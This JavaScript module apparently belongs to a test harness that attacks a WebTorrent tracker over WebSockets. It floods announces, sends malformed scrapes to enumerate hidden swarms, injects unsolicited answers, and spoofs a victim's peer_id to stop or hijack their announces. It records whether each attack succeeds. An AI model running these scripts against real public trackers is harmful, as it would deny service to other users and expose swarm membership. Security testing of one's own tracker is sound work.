// The attacks on the wire of WebTorrent's tracker. `kit` is what attacker-wires.mjs gives: its sockets and counters.
import { setTimeout as delay } from 'node:timers/promises'
import { WebSocket } from 'ws'

/** Twenty bytes from a number, as an `info_hash` or a `peer_id`. */
export const twenty = (prefix, n) => `${prefix}${n}`.padEnd(20, '-').slice(0, 20)
export const text = (frame) => JSON.stringify(frame)
export const announceOf = (hash, peer, more) =>
  text({ action: 'announce', info_hash: hash, peer_id: peer, numwant: 5, left: 1, ...more })
export const offersOf = (peer, count = 5) =>
  Array.from({ length: count }, (_, i) => ({
    offer: { type: 'offer', sdp: `v=0 of ${peer}` },
    offer_id: twenty('offer', i),
  }))
const answerOf = (hash, peer, to) =>
  text({
    action: 'announce',
    info_hash: hash,
    peer_id: peer,
    to_peer_id: to,
    answer: { type: 'answer', sdp: 'v=0' },
    offer_id: twenty('offer', 0),
  })

export function attacksOnTrackers({ saw, write, atRate, isOver, open, mustOpen, until, path }) {
  /** A peer of the tracker: sends frames, and says what came. */
  async function trackerPeer(i, id) {
    const heard = { replies: 0, offers: [], answers: [] }
    const ws = await mustOpen(i, path, (frame) => {
      if (frame.offer !== undefined) heard.offers.push(frame)
      else if (frame.answer !== undefined) heard.answers.push(frame)
      else heard.replies++
    })
    const announce = async (hash, more) => {
      const before = heard.replies
      write(ws, announceOf(hash, id, more))
      return until(ws, () => heard.replies > before, 5_000)
    }
    return { ws, id, heard, announce }
  }

  return {
    'swarms-10000': async () => {
      const ws = await mustOpen(0, path, (frame) =>
        saw(frame['failure reason'] === undefined ? 'entered' : 'refused'),
      )
      await atRate(900, (n) => n < 10_000 && write(ws, announceOf(twenty('many', n), twenty('p', 0))))
      await delay(500)
      saw(ws.readyState === WebSocket.OPEN ? 'stays' : 'is closed')
    },
    'scrape-everything': async () => {
      const hidden = twenty('hidden', 0)
      const member = await trackerPeer(1, twenty('member', 0))
      await member.announce(hidden, {})
      const guesses = (count) => Array.from({ length: count }, (_, i) => twenty('guess', i))
      const frames = [
        { action: 'scrape' },
        { action: 'scrape', info_hash: null },
        { action: 'scrape', info_hash: [] },
        { action: 'scrape', info_hash: '*' },
        { action: 'scrape', info_hash: guesses(65) },
        { action: 'scrape', info_hash: guesses(2_500) },
        { action: 'scrape', info_hash: guesses(64) },
      ]
      // It opens new sockets, because too many malformed frames end one.
      for (let again = 0; !isOver(); again++) {
        const ws = await open(again, path)
        if (ws === undefined) continue
        ws.on('message', (data) => {
          const frame = Buffer.from(data).toString()
          if (frame.includes(hidden)) saw('LISTED')
          saw(frame.includes('failure reason') ? 'refused' : 'answered')
        })
        const ended = new Promise((resolve) => ws.once('close', resolve))
        const sending = (async () => {
          for (let n = 0; n < 98 && !isOver(); n++) {
            write(ws, text(frames[n % frames.length]))
            if (n % 7 === 6) await delay(10)
          }
          await delay(100)
        })()
        await Promise.race([ended, sending])
        ws.terminate()
      }
      member.ws.terminate()
    },
    'offers-to-oneself': async () => {
      // Three sockets with one peer_id, and one other member, in one swarm.
      const hash = twenty('self', process.pid)
      const selves = await Promise.all([0, 1, 0].map((i) => trackerPeer(i, twenty('self', 0))))
      const other = await trackerPeer(1, twenty('other', 0))
      await other.announce(hash, {})
      await atRate(30, (n) => {
        const { ws, id } = selves[n % selves.length]
        write(ws, announceOf(hash, id, { offers: offersOf(id) }))
        write(ws, answerOf(hash, id, id))
      })
      await delay(300)
      for (const { heard, ws } of selves) {
        if (heard.offers.length > 0) saw('AN OWN OFFER', heard.offers.length)
        saw(ws.readyState === WebSocket.OPEN ? 'stays' : 'is closed')
      }
      saw('offers at the other member', other.heard.offers.length)
    },
    'unasked-answers': async () => {
      const hash = twenty('asked', process.pid)
      const victim = await trackerPeer(0, twenty('victim', 0))
      await victim.announce(hash, {})
      const attackers = await Promise.all([0, 1].map((i) => trackerPeer(i, twenty('liar', i))))
      await atRate(400, (n) => {
        const { ws, id } = attackers[n % 2]
        const targets = [
          [hash, twenty('absent', n)],
          [twenty('elsewhere', n % 3), victim.id],
          [hash, victim.id],
        ]
        const [swarm, to] = targets[n % 3]
        write(ws, answerOf(swarm, id, to))
      })
      const offers = offersOf('honest')
      const honest = await trackerPeer(1, twenty('honest', 0))
      await honest.announce(hash, { offers })
      saw(
        (await until(victim.ws, () => victim.heard.offers.length > 0, 5_000))
          ? 'victim is served'
          : 'VICTIM IS DEAF',
      )
      if (victim.heard.answers.some(({ info_hash: of }) => of !== hash)) saw('FROM ANOTHER SWARM')
      saw('answers at the victim', victim.heard.answers.length)
    },
    'stop-another': async () => {
      const hash = twenty('stop', process.pid)
      const victim = await trackerPeer(0, twenty('victim', 1))
      const honest = await trackerPeer(1, twenty('honest', 1))
      const attackers = await Promise.all([0, 1].map((i) => trackerPeer(i, twenty('liar', i))))
      const sockets = attackers.map(({ ws }) => ws)
      await victim.announce(hash, {})
      while (!isOver()) {
        for (let n = 0; n < 10; n++) write(sockets[n % 2], announceOf(hash, victim.id, { event: 'stopped' }))
        await delay(50)
        const before = victim.heard.offers.length
        await honest.announce(hash, { offers: offersOf('honest') })
        const isServed = await until(victim.ws, () => victim.heard.offers.length > before, 3_000)
        saw(isServed ? 'victim is served' : 'VICTIM IS DEAF')
      }
    },
    'announce-as-another': async () => {
      const hash = twenty('steal', process.pid)
      const victim = await trackerPeer(0, twenty('victim', 2))
      const honest = await trackerPeer(1, twenty('honest', 2))
      const attackers = await Promise.all([0, 1].map((i) => trackerPeer(i, twenty('liar', i))))
      while (!isOver()) {
        for (let n = 0; n < 20; n++)
          write(attackers[n % 2].ws, announceOf(hash, victim.id, { offers: offersOf('x') }))
        await delay(100)
        // The newest socket of a peer_id has it, so the next announce of the victim takes it back.
        if (!(await victim.announce(hash, {}))) saw('NO REPLY TO THE VICTIM')
        const before = victim.heard.offers.length
        await honest.announce(hash, { offers: offersOf('honest') })
        const isServed = await until(victim.ws, () => victim.heard.offers.length > before, 3_000)
        saw(isServed ? 'victim is served' : 'VICTIM IS DEAF')
      }
    },
  }
}
